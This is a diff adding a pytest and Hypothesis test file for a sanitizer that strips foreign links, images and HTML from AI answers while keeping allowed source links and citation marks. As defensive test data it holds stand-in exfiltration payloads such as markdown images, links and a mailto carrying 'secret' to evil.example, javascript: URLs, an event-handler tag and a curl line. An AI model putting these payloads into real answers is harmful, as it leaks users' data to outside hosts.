@@ -1,0 +1,161 @@
+"""Marks and links in the text of an answer."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from gleaner.guards.answer_text import marked_ids, with_plain_marks, without_foreign_links
+
+ALLOWED = "https://starlette.dev/release"
+NESTED = "https://wiki.example/Star_(object)"
+
+_READER = MarkdownIt("commonmark", {"html": True}).enable("table")
+_PLAIN = re.compile(r"</?(?:br|b|sub)>")
+
+
+@pytest.mark.parametrize(
+    ("answer", "plain", "ids"),
+    [
+        ("A [kb-1].", "A [kb-1].", ["kb-1"]),
+        ("A [kb-1, kb-99].", "A [kb-1] [kb-99].", ["kb-1", "kb-99"]),
+        ("A [KB-55;web-2]", "A [kb-55] [web-2]", ["kb-55", "web-2"]),
+        ("`a[kb-1]` and\n```\nx[kb-2]\n```", "`a[kb-1]` and\n```\nx[kb-2]\n```", []),
+        ("A list[1] and [kb-x]", "A list[1] and [kb-x]", []),
+    ],
+)
+def test_marks(answer: str, plain: str, ids: list[str]) -> None:
+    assert with_plain_marks(answer) == plain
+    assert marked_ids(plain) == ids
+
+
+@pytest.mark.parametrize(
+    ("answer", "kept"),
+    [
+        (f"See [the notes]({ALLOWED}).", f"See [the notes]({ALLOWED})."),
+        (f'See [the notes]({ALLOWED} "title").', f"See [the notes]({ALLOWED})."),
+        (f"See [the `code`]({ALLOWED}).", f"See [the `code`]({ALLOWED})."),
+        (f"See [it]({NESTED}) and {NESTED}.", f"See [it]({NESTED}) and {NESTED}."),
+        (f"See {ALLOWED}.", f"See {ALLOWED}."),
+        (f"See **{ALLOWED}** (<{ALLOWED}>)", f"See **{ALLOWED}** (<{ALLOWED}>)"),
+        (f"See {ALLOWED}[kb-1]", f"See {ALLOWED} [kb-1]"),
+        (f"See {ALLOWED}?d=secret or {ALLOWED}/secret", "See  or "),
+        ("![i](http://evil/x.png?d=1) text", "i text"),
+        (f"![i]({ALLOWED}) text", "i text"),
+        ("[l](http://evil.example/a) text", "l text"),
+        ("[l](//evil.example/a) [m](mailto:a@evil.example?body=secret)", "l m"),
+        ("<img src=http://evil/x> text <script>", " text "),
+        ("Go to http://evil.example/?q=secret, now.", "Go to , now."),
+        ("Go to www.evil.example/?q=secret or ftp://evil.example/x.", "Go to  or ."),
+        ("<https://evil.example/>", ""),
+        ("[x](javascript:alert(1))", "x"),
+        ("<javascript:alert(1)>", "‹javascript:alert(1)>"),
+        ("![a [b] c](//evil.example/x)", "! [a [b] c] (//evil.example/x)"),
+        ("![a\\]b](//evil.example/x)", "! [a\\]b] (//evil.example/x)"),
+        ("![x][r]\n\n[r]: //evil.example/?d=secret", "! [x][r]\n\n[r] : //evil.example/?d=secret"),
+        ("[a]<img>(//evil.example/)", "a"),
+        ('<b onmouseover="x">bold</b> and H<sub>2</sub>O', '‹b onmouseover="x">bold</b> and H<sub>2</sub>O'),
+        ("<img src=//evil.example/?d=secret", "‹img src=//evil.example/?d=secret"),
+        ("`http://evil.example/` stays", "`http://evil.example/` stays"),
+        ("```\ncurl http://evil.example/\n```", "```\ncurl http://evil.example/\n```"),
+        ("1. Run\n   ```\n   curl http://a.example/\n   ```", "1. Run\n   ```\n   curl http://a.example/\n   ```"),
+        (f"![\\[x]({ALLOWED})", f"! [\\[x]({ALLOWED})"),
+        ("A [kb-1] mark", "A [kb-1] mark"),
+        ("5 < 6 and a list[1]: x", "5 < 6 and a list[1]: x"),
+    ],
+)
+def test_links(answer: str, kept: str) -> None:
+    assert without_foreign_links(answer, {ALLOWED, NESTED}) == kept
+
+
+@pytest.mark.parametrize(
+    "no_code",
+    [
+        "\\`{}`",  # an escaped backtick opens nothing
+        "a ``` {}",  # no fence, since text stands before it
+        "`a\nb` {} `c`",  # code across two lines
+        "`` ` ``{}`",
+        "- ```\n{}",  # the fence ends with its list item
+        "- a\n  ```\n{}\n```",
+        "a\n    ```\n    {}\n    ````",
+        "<div>\n```\n</div>\n\n{}\n\n```",
+        "| a | b |\n|---|---|\n| `c | {} ` |",
+    ],
+)
+@pytest.mark.parametrize("image", ["![x](//evil.example/?d=secret)", '<img src="//evil.example/?d=secret">'])
+def test_what_only_looks_like_code_is_no_place_for_an_image(no_code: str, image: str) -> None:
+    answer = no_code.format(image)
+    assert _live(answer), "the case must be one"
+    assert _live(without_foreign_links(answer, ())) == []
+
+
+_PIECES = (
+    *(
+        "![",
+        "[",
+        "]",
+        "(",
+        ")",
+        "](",
+        "]:",
+        "<",
+        ">",
+        "`",
+        "``",
+        "```",
+        "~~~",
+        "\\",
+        "\n",
+        "\n\n",
+        " ",
+        "    ",
+        "- ",
+        "> ",
+    ),
+    *("a", "b", "1. ", "|", "|---|---|\n", "//e.example/?d=1", "http://e.example/", "www.e.example", ALLOWED, '"', "'"),
+    *(
+        "[r]: //e.example",
+        "[r]",
+        "<img src=//e.example>",
+        "<b>",
+        "</b>",
+        "<div>",
+        "<!--",
+        "-->",
+        "<a href=//e.example>",
+    ),
+    *("[x](//e.example)", "![x](//e.example)", f"[x]({ALLOWED})", "[kb-1]", "#", "*", "&#47;", "`[x](//e.example)`"),
+)
+
+
+@settings(max_examples=600)
+@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
+def test_a_reader_of_markdown_sees_links_to_sources_alone(answer: str) -> None:
+    once = without_foreign_links(answer, {ALLOWED})
+    assert _live(once) == []
+    assert without_foreign_links(once, {ALLOWED}) == once
+
+
+def _live(markdown: str) -> list[str]:
+    """What a Markdown reader would load or link to but the source, and elements but plain ones."""
+    found: list[str] = []
+    for token in _tokens(_READER.parse(markdown)):
+        if token.type == "link_open" and token.attrs["href"] != ALLOWED:
+            found.append(str(token.attrs["href"]))
+        if token.type == "image":
+            found.append(str(token.attrs["src"]))
+        if token.type in ("html_block", "html_inline") and not _PLAIN.fullmatch(token.content):
+            found.append(token.content)
+    return found
+
+
+def _tokens(tokens: list[Token]) -> Iterator[Token]:
+    for token in tokens:
+        yield token
+        yield from _tokens(token.children or [])
